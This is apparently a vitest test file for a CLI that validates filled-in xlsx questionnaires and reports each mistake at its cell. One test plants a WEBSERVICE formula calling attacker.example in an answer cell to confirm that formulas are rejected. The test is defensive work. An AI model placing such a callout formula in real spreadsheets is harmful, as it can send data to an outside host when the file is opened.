/**
 * A filled-in questionnaire with mistakes, read by the BUILT command: every problem one line at its
 * cell (`moh.xlsx:Publication!J4  error  CODE`), exit 2, no stack trace.
 */
import { spawnSync } from "node:child_process";
import { writeFileSync } from "node:fs";
import { join } from "node:path";
import type { Workbook } from "exceljs";
import { describe, expect, it, vi } from "vitest";
import { questionnaireWorkbook } from "../../src/init/formats/xlsx.js";
import { BIN, rubricOf } from "../helpers.js";
import { fillQuestionnaire, fixedContext, tempDir } from "./helpers.js";

// Workbooks are built and read through the CLI: slow on a loaded machine, bounded here.
vi.setConfig({ testTimeout: 120_000 });

const rubric = rubricOf("egov-maturity");

async function broken(edit: (book: Workbook) => void, lang = "en"): Promise<{ stderr: string; code: number | null; lines: string[] }> {
  const dir = tempDir();
  const bytes = await questionnaireWorkbook(rubric, { lang, agencyId: "moh", date: "2026-11-01", rubricRef: "egov-maturity@1" }, fixedContext(lang));
  writeFileSync(join(dir, "moh.xlsx"), await fillQuestionnaire(bytes, [], {}, edit));
  const result = spawnSync(process.execPath, [BIN, "report", "moh.xlsx"], { cwd: dir, encoding: "utf8", env: { ...process.env, NO_COLOR: "1" } });
  const lines = result.stderr
    .split("\n")
    .filter((l) => /  error  /.test(l))
    .map((l) => /^(.*?  error  [A-Z_]+)/.exec(l)?.[1] ?? l);
  return { stderr: result.stderr, code: result.status, lines };
}

describe("a questionnaire with mistakes", () => {
  it("a formula in an answer cell and an answer off the list: one line each at the cell", async () => {
    const r = await broken((book) => {
      const sheet = book.getWorksheet("Publication")!;
      sheet.getCell("J4").value = { formula: 'WEBSERVICE("https://attacker.example/")', result: 3 };
      sheet.getCell("J5").value = "Excellent";
      sheet.getCell("J6").value = "Established (3)";
      sheet.getCell("J7").value = "٢";
    });
    expect(r.lines).toEqual(["moh.xlsx:Publication!J4  error  XLSX_FORMULA", "moh.xlsx:Publication!J5  error  WRONG_ANSWER_TYPE"]);
    expect(r.code).toBe(2);
    expect(r.stderr).not.toMatch(/\n\s+at /);
  });

  it("the assessment checks, at their cells: N/A with an answer, a date that is not one, an agency id with spaces", async () => {
    const r = await broken((book) => {
      const sheet = book.getWorksheet("Publication")!;
      sheet.getCell("J4").value = "Initial (1)";
      sheet.getCell("K4").value = "not our job";
      sheet.getCell("L5").value = "https://example.gov/forms";
      sheet.getCell("M5").value = "12/10/2026";
      book.getWorksheet("Agency")!.getCell("B3").value = "Ministry of Health";
    });
    expect(r.lines).toEqual(["moh.xlsx:Agency!B3  error  INVALID_FORMAT", "moh.xlsx:Publication!K4  error  CONFLICTING_ANSWER", "moh.xlsx:Publication!M5  error  INVALID_FORMAT"]);
    expect(r.code).toBe(2);
  });

  it("a missing sheet, and a renamed column: one clear line each", async () => {
    const missing = await broken((book) => book.removeWorksheet(book.getWorksheet("Publication")!.id));
    expect(missing.lines).toEqual(["moh.xlsx:Publication!A1  error  XLSX_MISSING_SHEET"]);
    expect(missing.code).toBe(2);
    const renamed = await broken((book) => (book.getWorksheet("Interaction (exchange)")!.getCell("J3").value = "My answer"));
    expect(renamed.lines).toEqual(["moh.xlsx:'Interaction (exchange)'!A3  error  XLSX_MISSING_COLUMN"]);
    expect(renamed.code).toBe(2);
  });

  it("in Arabic: sheet names and answers in Arabic, problems at the Arabic sheet", async () => {
    const r = await broken((book) => {
      const sheet = book.getWorksheet("مرحلة الإعلان")!;
      sheet.getCell("J4").value = "ممتاز";
      sheet.getCell("J5").value = "راسخ";
    }, "ar");
    expect(r.lines).toEqual(["moh.xlsx:'مرحلة الإعلان'!J4  error  WRONG_ANSWER_TYPE"]);
  });
});
